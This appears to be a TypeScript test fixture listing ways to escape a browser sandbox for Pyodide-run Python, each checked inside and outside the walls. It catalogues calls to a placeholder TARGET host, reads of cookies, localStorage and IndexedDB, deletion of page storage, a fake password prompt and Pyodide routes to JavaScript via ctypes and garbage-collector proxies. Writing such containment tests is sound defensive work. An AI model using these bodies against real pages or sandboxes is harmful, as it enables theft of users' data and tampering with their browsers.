/**
 * Ways out of the sandbox. Each is run twice: behind the walls, where nothing may happen, and without
 * them, where its effect must be seen; else it would prove nothing.
 *
 * In the bodies `TARGET` stands for the address of a server that keeps what it is asked for, and `BLOB` for
 * a blob URL of the page with its secret.
 */
export interface Attack {
  readonly what: string;
  /** request: the server is reached; read: the secret comes back; change: the page or its browser is not as it was. */
  readonly effect: 'request' | 'read' | 'change';
  readonly body: string;
}

const moment = 'await new Promise((resolve) => setTimeout(resolve, 400));';
const nested = (script: string): string =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}], { type: 'text/javascript' }))); ${moment}`;
const openDatabase = `const database = await new Promise((resolve, reject) => {
  const request = indexedDB.open('treasure');
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});`;
const readDatabase = `${openDatabase}
return new Promise((resolve) => {
  const request = database.transaction('store').objectStore('store').get('secret');
  request.onsuccess = () => { resolve(request.result); database.close(); };
});`;
const deleteDatabase = `await new Promise((resolve, reject) => {
  const request = indexedDB.deleteDatabase('treasure');
  request.onsuccess = resolve;
  request.onerror = request.onblocked = () => reject(request.error);
});`;

/** In the worker's JavaScript: what code could do that broke out of Python altogether. */
export const WORKER_ATTACKS: readonly Attack[] = [
  { what: 'fetch', effect: 'request', body: "return (await fetch('TARGET')).status" },
  { what: 'fetch without CORS', effect: 'request', body: "await fetch('TARGET', { mode: 'no-cors' })" },
  { what: 'a POST that is kept alive', effect: 'request', body: "await fetch('TARGET', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })" },
  { what: 'XMLHttpRequest', effect: 'request', body: `const r = new XMLHttpRequest(); r.open('GET', 'TARGET'); r.send(); ${moment}` },
  { what: 'synchronous XMLHttpRequest', effect: 'request', body: "const r = new XMLHttpRequest(); r.open('GET', 'TARGET', false); r.send()" },
  { what: 'WebSocket', effect: 'request', body: `new WebSocket('TARGET'.replace('http', 'ws')); ${moment}` },
  { what: 'EventSource', effect: 'request', body: `new EventSource('TARGET.events'); ${moment}` },
  { what: 'importScripts', effect: 'request', body: "importScripts('TARGET.js')" },
  { what: 'import()', effect: 'request', body: "await import('TARGET.js')" },
  { what: 'streaming WebAssembly', effect: 'request', body: "await WebAssembly.compileStreaming(fetch('TARGET.wasm'))" },
  { what: 'a font', effect: 'request', body: "const face = new FontFace('x', 'url(TARGET.woff)'); self.fonts.add(face); await face.load()" },
  { what: 'fetch in a nested worker', effect: 'request', body: nested("fetch('TARGET')") },
  { what: 'importScripts in a nested worker', effect: 'request', body: nested("importScripts('TARGET.js')") },
  { what: 'import() in a nested worker', effect: 'request', body: nested("import('TARGET.js')") },
  { what: 'a nested worker in a nested worker', effect: 'request', body: nested(`new Worker(URL.createObjectURL(new Blob(["fetch('TARGET')"])))`) },
  { what: 'a nested module worker', effect: 'request', body: `new Worker(URL.createObjectURL(new Blob(["import 'TARGET.js'"], { type: 'text/javascript' })), { type: 'module' }); ${moment}` },
  { what: 'a nested worker from a data URL', effect: 'request', body: `new Worker('data:text/javascript,fetch("TARGET")'); ${moment}` },
  { what: 'a redirect through the Response of a blob', effect: 'request', body: "await fetch(Response.redirect('TARGET', 302).headers.get('location'))" },
  { what: 'the page’s database', effect: 'read', body: readDatabase },
  { what: 'the page’s cache', effect: 'read', body: "const cache = await caches.open('treasure'); const [key] = await cache.keys(); return (await cache.match(key)).text()" },
  { what: 'the page’s private files', effect: 'read', body: "const folder = await navigator.storage.getDirectory(); return (await (await folder.getFileHandle('secret')).getFile()).text()" },
  { what: 'a blob of the page', effect: 'read', body: "return (await fetch('BLOB')).text()" },
  { what: 'a blob of the page as a script', effect: 'read', body: "const r = new XMLHttpRequest(); r.open('GET', 'BLOB', false); r.send(); return r.responseText" },
  { what: 'a message on the page’s channel', effect: 'change', body: `new BroadcastChannel('page').postMessage('hello'); ${moment}` },
  { what: 'stealing the page’s lock', effect: 'change', body: `navigator.locks.request('page', { steal: true }, () => 1); ${moment}` },
  { what: 'deleting the page’s database', effect: 'change', body: deleteDatabase },
  { what: 'emptying the page’s cache', effect: 'change', body: "await caches.delete('treasure')" },
  { what: 'deleting the page’s private files', effect: 'change', body: "await (await navigator.storage.getDirectory()).removeEntry('secret')" },
]; // prettier-ignore

const element = (html: string): string =>
  `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)}); ${moment}`;

/** In the document of the frame, which is one step nearer to the page than any code under test gets. */
export const FRAME_ATTACKS: readonly Attack[] = [
  { what: 'fetch', effect: 'request', body: "await fetch('TARGET')" },
  { what: 'a beacon', effect: 'request', body: `navigator.sendBeacon('TARGET', 'x'); ${moment}` },
  { what: 'an image', effect: 'request', body: `new Image().src = 'TARGET'; ${moment}` },
  { what: 'a script', effect: 'request', body: `const s = document.createElement('script'); s.src = 'TARGET.js'; document.head.append(s); ${moment}` },
  { what: 'a style sheet', effect: 'request', body: element('<link rel="stylesheet" href="TARGET.css">') },
  { what: 'an import of a style sheet', effect: 'request', body: element('<style>@import url("TARGET.css");</style>') },
  { what: 'a background', effect: 'request', body: element('<p style="background: url(TARGET)">x</p>') },
  { what: 'a preload', effect: 'request', body: element('<link rel="preload" as="image" href="TARGET">') },
  { what: 'a frame in the frame', effect: 'request', body: element('<iframe src="TARGET.html"></iframe>') },
  { what: 'an object', effect: 'request', body: element('<object data="TARGET.html" type="text/html"></object>') },
  { what: 'a video', effect: 'request', body: element('<video src="TARGET" preload="auto" autoplay muted></video>') },
  { what: 'a form', effect: 'request', body: `${element('<form action="TARGET.html"><input name="x" value="1"></form>')} document.forms[0].submit(); ${moment}` },
  { what: 'going elsewhere', effect: 'request', body: `location.href = 'TARGET.html'; ${moment}` },
  { what: 'taking the page elsewhere', effect: 'request', body: `top.location.href = 'TARGET.html'; ${moment}` },
  { what: 'a new window', effect: 'request', body: `window.open('TARGET.html'); ${moment}` },
  { what: 'a link to a new window', effect: 'request', body: `${element('<a href="TARGET.html" target="_blank" id="out">x</a>')} document.getElementById('out').click(); ${moment}` },
  { what: 'a download', effect: 'request', body: `${element('<a href="TARGET" download="x.bin" id="load">x</a>')} document.getElementById('load').click(); ${moment}` },
  { what: 'a refresh', effect: 'request', body: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=TARGET.html'; document.head.append(m); ${moment}` },
  { what: 'the page’s storage', effect: 'read', body: "return localStorage.getItem('secret')" },
  { what: 'the page’s cookies', effect: 'read', body: 'return document.cookie' },
  { what: 'the page’s storage through the page', effect: 'read', body: "return parent.localStorage.getItem('secret')" },
  { what: 'the page’s database', effect: 'read', body: readDatabase },
  { what: 'the page’s title', effect: 'change', body: "parent.document.title = 'defaced'" },
  { what: 'a variable of the page', effect: 'change', body: 'parent.defaced = true' },
  { what: 'a dialog', effect: 'change', body: "alert('hello')" },
  { what: 'a prompt', effect: 'change', body: "return prompt('Your password?')" },
]; // prettier-ignore

/** In Python: the ways to JavaScript and to memory that Pyodide has. Each body ends in calling `f`. */
export const PYTHON_ATTACKS: readonly Attack[] = [
  { what: 'js.fetch', effect: 'request', body: "def f():\n    import js\n    return js.fetch('TARGET')" },
  { what: 'js.XMLHttpRequest', effect: 'request', body: "def f():\n    from js import XMLHttpRequest\n    r = XMLHttpRequest.new()\n    r.open('GET', 'TARGET', False)\n    return r.send()" },
  { what: 'js.WebSocket', effect: 'request', body: "def f():\n    import js\n    return js.WebSocket.new('TARGET'.replace('http', 'ws'))" },
  { what: 'js.eval', effect: 'request', body: "def f():\n    import js\n    return js.eval('fetch(\"TARGET\")')" },
  { what: 'js.Function', effect: 'request', body: "def f():\n    import js\n    return js.Function.new('fetch(\"TARGET\")')()" },
  { what: 'js.Worker', effect: 'request', body: "def f():\n    import js\n    from pyodide.ffi import to_js\n    blob = js.Blob.new(to_js(['fetch(\"TARGET\")']))\n    return js.Worker.new(js.URL.createObjectURL(blob))" },
  { what: 'pyodide.http.open_url', effect: 'request', body: "def f():\n    from pyodide.http import open_url\n    return open_url('TARGET')" },
  { what: 'pyodide.code.run_js', effect: 'request', body: "def f():\n    from pyodide.code import run_js\n    return run_js('fetch(\"TARGET\")')" },
  { what: 'pyodide_js.loadPackage', effect: 'request', body: "def f():\n    import pyodide_js\n    return pyodide_js.loadPackage('TARGET-1.0-py3-none-any.whl')" },
  { what: 'the finder of JavaScript modules', effect: 'request', body: "def f():\n    import sys\n    for finder in sys.meta_path:\n        if hasattr(finder, 'jsproxies'):\n            return finder.jsproxies['js'].fetch('TARGET')" },
  { what: 'a proxy that the garbage collector knows', effect: 'request', body: "def f():\n    import gc\n    for item in gc.get_objects():\n        if type(item) is dict:\n            for value in list(item.values()):\n                if type(value).__name__ == 'JsProxy' and hasattr(value, 'fetch'):\n                    return value.fetch('TARGET')" },
  { what: 'the C function that runs a script', effect: 'request', body: "def f():\n    import ctypes\n    return ctypes.CDLL(None).emscripten_run_script(b'fetch(\"TARGET\")')" },
  { what: 'a module that is imported by its loader', effect: 'request', body: "def f():\n    import importlib.util\n    return importlib.util.find_spec('js').loader.load_module('js').fetch('TARGET')" },
  { what: 'a fresh copy of the built-in core', effect: 'request', body: "def f():\n    import sys, importlib\n    for name in [n for n in sys.modules if n.partition('.')[0] in ('pyodide', '_pyodide', '_pyodide_core')]:\n        core = sys.modules[name]\n        if hasattr(core, 'run_js'):\n            return core.run_js('fetch(\"TARGET\")')\n    core = importlib.import_module('_pyodide_core')\n    return core.run_js('fetch(\"TARGET\")')" },
]; // prettier-ignore
